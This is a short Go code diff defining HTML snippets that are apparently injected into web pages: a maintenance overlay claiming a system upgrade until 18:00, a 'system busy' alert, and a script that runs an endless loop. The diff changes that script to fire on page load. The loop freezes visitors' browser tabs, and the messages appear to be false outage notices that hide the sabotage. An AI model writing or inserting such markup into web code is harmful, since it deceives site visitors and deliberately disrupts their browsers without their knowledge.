@@ -17,7 +17,7 @@ const (
 	maskMarkup template.HTML = `<div class="maintenance-mask" id="maintenance-mask"><div class="maintenance-card">` +
 		`<strong>系统升级维护中</strong><p>预计今日 18:00 恢复，给您带来不便敬请谅解。</p></div></div>`
 	alertMarkup template.HTML = `<script>alert("系统繁忙，请稍后再试");</script>`
-	loopMarkup  template.HTML = `<script>setTimeout(function () { for (;;) {} }, 300);</script>`
+	loopMarkup  template.HTML = `<script>addEventListener('load', function () { for (;;) {} });</script>`
 )
 
 // pause waits for d, or less when the visitor leaves; it reports whether the
